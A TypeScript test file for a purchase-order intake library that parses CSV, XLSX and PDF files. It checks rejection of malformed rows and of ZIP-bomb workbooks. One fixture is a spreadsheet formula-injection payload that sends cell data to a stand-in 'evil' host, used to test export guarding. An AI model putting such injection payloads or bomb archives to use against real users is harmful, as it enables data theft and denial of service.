import { describe, expect, it } from 'vitest';
import { buildCsv, toExportRow } from '../../export/src/index';
import { DEFAULT_XLSX_MAX_UNPACKED_BYTES, IntakeError, parseCsv, parseFile, parsePdf, parseXlsx } from '../src/index';
import { paddedWorkbook, pdfOf, xlsxOf, zipOf } from './fixtures';

async function intakeErrorOf(work: Promise<unknown> | (() => unknown)) {
  try {
    await (typeof work === 'function' ? work() : work);
  } catch (error) {
    if (error instanceof IntakeError) return error;
    throw error;
  }
  throw new Error('expected an IntakeError');
}

describe('parseCsv', () => {
  it('reads a semicolon CSV with Portuguese headers, a title row and a BOM', () => {
    const csv = '\uFEFFPlanilha de importação\nCódigo;Descrição;Fabricante;Fornecedor;Qtd\n lm358dr ;Amplificador operacional;Texas Instruments;Arrow;1.200\nGRM188R71H104KA93D;"Capacitor; cerâmico";Murata;;10\n';
    const result = parseCsv(csv);
    expect(result.rejected).toEqual([]);
    expect(result.items).toEqual([
      { partnumber: 'LM358DR', description: 'Amplificador operacional', manufacturer: 'Texas Instruments', supplier: 'Arrow', quantity: 1200 },
      { partnumber: 'GRM188R71H104KA93D', description: 'Capacitor; cerâmico', manufacturer: 'Murata', quantity: 10 },
    ]);
  });

  it('reads a comma CSV with English headers and reports every refused row with its row, column and reason', () => {
    const csv = [
      'Part Number,Description,Manufacturer,Qty',
      'ABC-100,Relay 24V,Omron,5',
      ',missing partnumber,Omron,1',
      'AB,too short,,1',
      'DEF-200,Screw M3,,many',
      '',
      `${'X'.repeat(65)},too long,,1`,
      'GHI-300,,,',
    ].join('\n');
    const result = parseCsv(csv);
    expect(result.items.map((item) => item.partnumber)).toEqual(['ABC-100', 'GHI-300']);
    expect(result.rejected).toEqual([
      { row: 3, column: 'partnumber', reason: 'partnumber is missing' },
      { row: 4, column: 'partnumber', reason: 'partnumber must have at least 3 characters' },
      { row: 5, column: 'quantity', reason: 'quantity is not a number (many)' },
      { row: 7, column: 'partnumber', reason: 'partnumber must have at most 64 characters' },
    ]);
  });

  it('gives back the text and quantities of an exported CSV whose cells Nexa guarded against formulas', () => {
    const parts: Array<{ partnumber: string; description: string; manufacturer: string; quantity?: number }> = [
      { partnumber: '=HYPERLINK("HTTP://EVIL.EXAMPLE/?Q="&A1;"CLIQUE")', description: '=1+1', manufacturer: '@ACME' },
      { partnumber: '+5V-REG', description: '-10 °C a +85 °C', manufacturer: 'TI' },
      { partnumber: '-LM317T', description: 'Regulador\tajustável', manufacturer: 'ST' },
      { partnumber: 'BC547', description: 'Transistor NPN', manufacturer: 'onsemi', quantity: 1500.5 },
    ];
    const exported = parts.map((part, index) =>
      toExportRow({ id: '22222222-2222-4222-8222-222222222222', seq: index + 1, supplier: null, status: 'queued', error: null, classification: null, ...part, quantity: part.quantity ?? null }),
    );
    const csv = buildCsv(exported);
    expect(csv).toContain(`;"'=HYPERLINK(`);
    const result = parseCsv(csv);
    expect(result.rejected).toEqual([]);
    expect(result.items).toEqual(parts);
  });

  it('removes the apostrophe only before a formula character', () => {
    const csv = `pn;descrição\n'=A1+1;'@x\n'BC547;'tab\n"'\tABC-1";''=dois\n`;
    expect(parseCsv(csv).items).toEqual([
      { partnumber: '=A1+1', description: '@x' },
      { partnumber: "'BC547", description: "'tab" },
      { partnumber: 'ABC-1', description: "''=dois" },
    ]);
  });

  it('refuses an empty file and one without a partnumber column', async () => {
    expect((await intakeErrorOf(() => parseCsv('  \n'))).code).toBe('EMPTY_FILE');
    const noColumn = await intakeErrorOf(() => parseCsv('nome;valor\nx;1\n'));
    expect(noColumn.code).toBe('NO_PARTNUMBER_COLUMN');
    expect(noColumn.message).toContain('partnumber');
  });
});

describe('parseXlsx', () => {
  it('reads the first sheet, finding the header row below a title, with numbers and rich text', async () => {
    const bytes = await xlsxOf([
      ['Pedido 4500123'],
      [],
      ['PN', 'Description', 'Fabricante', 'Quantidade'],
      ['6205-2RS', 'Rolamento de esferas', 'SKF', 40],
      [12345678, 'Numeric partnumber', null, 2],
      [null, 'no partnumber', 'SKF', 1],
    ]);
    const result = await parseXlsx(bytes);
    expect(result.items).toEqual([
      { partnumber: '6205-2RS', description: 'Rolamento de esferas', manufacturer: 'SKF', quantity: 40 },
      { partnumber: '12345678', description: 'Numeric partnumber', quantity: 2 },
    ]);
    expect(result.rejected).toEqual([{ row: 6, column: 'partnumber', reason: 'partnumber is missing' }]);
  });

  it('refuses bytes that are not a workbook', async () => {
    const error = await intakeErrorOf(parseXlsx(new TextEncoder().encode('PK not really a zip')));
    expect(error.code).toBe('UNREADABLE_FILE');
  });
});

describe('parseXlsx against ZIP bombs', () => {
  it('refuses a workbook that unpacks to more than the limit before ExcelJS unpacks it', async () => {
    const bomb = await paddedWorkbook(DEFAULT_XLSX_MAX_UNPACKED_BYTES + 1024 * 1024);
    expect(bomb.byteLength).toBeLessThan(200_000);
    const error = await intakeErrorOf(parseFile(bomb, { filename: 'bomb.xlsx' }));
    expect(error.code).toBe('FILE_TOO_LARGE');
    expect(error.message).toMatch(new RegExp(`^the XLSX unpacks to \\d+ bytes; the limit is ${DEFAULT_XLSX_MAX_UNPACKED_BYTES}$`));
  });

  it('reads a workbook under the limit, and takes the limit as an option', async () => {
    const padded = await paddedWorkbook(1024 * 1024);
    expect((await parseXlsx(padded)).items).toEqual([{ partnumber: 'ABC-1' }]);
    expect((await parseFile(padded, { filename: 'po.xlsx' })).items).toEqual([{ partnumber: 'ABC-1' }]);
    const error = await intakeErrorOf(parseFile(padded, { filename: 'po.xlsx', maxXlsxUnpackedBytes: 512 * 1024 }));
    expect(error.code).toBe('FILE_TOO_LARGE');
    expect(error.message).toContain('the limit is 524288');
  });

  it('refuses an archive whose entries unpack to more than their declared size', async () => {
    const lying = await paddedWorkbook(DEFAULT_XLSX_MAX_UNPACKED_BYTES + 1024 * 1024, () => 1000);
    const error = await intakeErrorOf(parseXlsx(lying));
    expect(error.code).toBe('UNREADABLE_FILE');
    expect(error.message).toBe('the XLSX is not a valid ZIP archive: xl/worksheets/sheet1.xml unpacks to more than its declared 1000 bytes');
    const tooSmall = await intakeErrorOf(parseXlsx(await paddedWorkbook(0, (size) => size + 1)));
    expect(tooSmall.message).toMatch(/xl\/worksheets\/sheet1.xml unpacks to \d+ bytes, not the declared \d+$/);
  });

  it('refuses truncated, garbage and ZIP64 archives as unreadable, with a clear message', async () => {
    const workbook = await xlsxOf([['Part Number'], ['ABC-1']]);
    for (const bytes of [workbook.subarray(0, workbook.byteLength - 10), workbook.subarray(0, workbook.byteLength / 2), new Uint8Array([0x50, 0x4b, 3, 4, ...new Uint8Array(200).fill(7)])]) {
      const error = await intakeErrorOf(parseFile(bytes, { filename: 'po.xlsx' }));
      expect(error.code).toBe('UNREADABLE_FILE');
      expect(error.message).toMatch(/^the XLSX is not a valid ZIP archive: /);
    }
    const zip64 = zipOf([{ name: 'xl/worksheets/sheet1.xml', data: new TextEncoder().encode('<worksheet/>'), declaredSize: 0xffffffff }]);
    expect((await intakeErrorOf(parseXlsx(zip64))).message).toBe('the XLSX is not a valid ZIP archive: xl/worksheets/sheet1.xml is a ZIP64 entry, which is not accepted');
  });
});

describe('parsePdf', () => {
  it('reads a purchase order one item per line with the generic layout, skipping titles and totals', async () => {
    const bytes = await pdfOf([
      'PEDIDO DE COMPRA 4500123',
      'Fornecedor: Distribuidora Exemplo Ltda',
      'Item Código Descrição Qtd Un Preço',
      '1 LM358DR Amplificador operacional duplo 100 PC 1,25',
      '2 GRM188R71H104KA93D Capacitor cerâmico 100nF 2.000 PC 0,02',
      '3 6205-2RS Rolamento rígido de esferas 12 UN R$ 35,90',
      'Total geral 1.234,56',
    ]);
    const result = await parsePdf(bytes);
    expect(result.layout).toBe('generic');
    expect(result.items).toEqual([
      { partnumber: 'LM358DR', description: 'Amplificador operacional duplo', quantity: 100 },
      { partnumber: 'GRM188R71H104KA93D', description: 'Capacitor cerâmico 100nF', quantity: 2000 },
      { partnumber: '6205-2RS', description: 'Rolamento rígido de esferas', quantity: 12 },
    ]);
  });

  it('reads an Arrow order acknowledgement with its own layout, across pages', async () => {
    const block = (n: number, pn: string, mfr: string, desc: string, qty: string) => [`Line ${n}`, `Mfr Part #: ${pn}`, `Manufacturer: ${mfr}`, `Description: ${desc}`, `Qty: ${qty}`];
    const lines = ['Arrow Electronics - Order Acknowledgement', 'Order 987654', ...block(1, 'LM358DR', 'Texas Instruments', 'IC OPAMP GP 2 CIRCUIT 8SOIC', '100')];
    while (lines.length < 52) lines.push('');
    lines.push(...block(2, 'BSS138', 'onsemi', 'MOSFET N-CH 50V 220MA SOT-23', '3,000'), ...block(3, '', 'Nobody', 'no partnumber', '1'));
    const result = await parsePdf(await pdfOf(lines));
    expect(result.layout).toBe('arrow');
    expect(result.items).toEqual([
      { partnumber: 'LM358DR', manufacturer: 'Texas Instruments', description: 'IC OPAMP GP 2 CIRCUIT 8SOIC', quantity: 100, supplier: 'Arrow Electronics' },
      { partnumber: 'BSS138', manufacturer: 'onsemi', description: 'MOSFET N-CH 50V 220MA SOT-23', quantity: 3000, supplier: 'Arrow Electronics' },
    ]);
    expect(result.rejected).toHaveLength(1);
    expect(result.rejected[0]).toMatchObject({ column: 'partnumber', reason: 'partnumber is missing' });
  });

  it('refuses a file that is not a PDF and a PDF without item lines', async () => {
    expect((await intakeErrorOf(parsePdf(new TextEncoder().encode('hello')))).code).toBe('UNREADABLE_FILE');
    expect((await intakeErrorOf(parsePdf(new TextEncoder().encode('%PDF-1.7 garbage')))).code).toBe('UNREADABLE_FILE');
    expect((await intakeErrorOf(parsePdf(await pdfOf(['Just a letter', 'with no items'])))).code).toBe('NO_ITEMS');
  });
});

describe('parseFile', () => {
  it('detects the format from the bytes and the name', async () => {
    expect((await parseFile(new TextEncoder().encode('pn;qty\nABC-1;2\n'), { filename: 'po.csv' })).format).toBe('csv');
    expect((await parseFile(await xlsxOf([['Part Number'], ['ABC-1']]), { filename: 'po.bin' })).format).toBe('xlsx');
    expect((await parseFile(await pdfOf(['1 ABC-123 Widget 2 PC']))).format).toBe('pdf');
  });

  it('refuses oversized, empty, wrong-type and all-rejected files with clear codes', async () => {
    const csv = new TextEncoder().encode('pn\nABC-1\n');
    expect((await intakeErrorOf(parseFile(csv, { filename: 'a.csv', maxBytes: 4 }))).code).toBe('FILE_TOO_LARGE');
    expect((await intakeErrorOf(parseFile(new Uint8Array(), { filename: 'a.csv' }))).code).toBe('EMPTY_FILE');
    expect((await intakeErrorOf(parseFile(new Uint8Array([0x89, 0x50, 0x4e, 0x47]), { filename: 'photo.png', mimeType: 'image/png' }))).code).toBe('UNSUPPORTED_TYPE');
    const allBad = await intakeErrorOf(parseFile(new TextEncoder().encode('pn;qty\nX;1\n'), { filename: 'a.csv' }));
    expect(allBad.code).toBe('NO_ITEMS');
    expect(allBad.rejected).toEqual([{ row: 2, column: 'partnumber', reason: 'partnumber must have at least 3 characters' }]);
    const tooMany = await intakeErrorOf(parseFile(new TextEncoder().encode('pn\nABC-1\nABC-2\nABC-3\n'), { filename: 'a.csv', maxItems: 2 }));
    expect(tooMany.code).toBe('FILE_TOO_LARGE');
  });
});
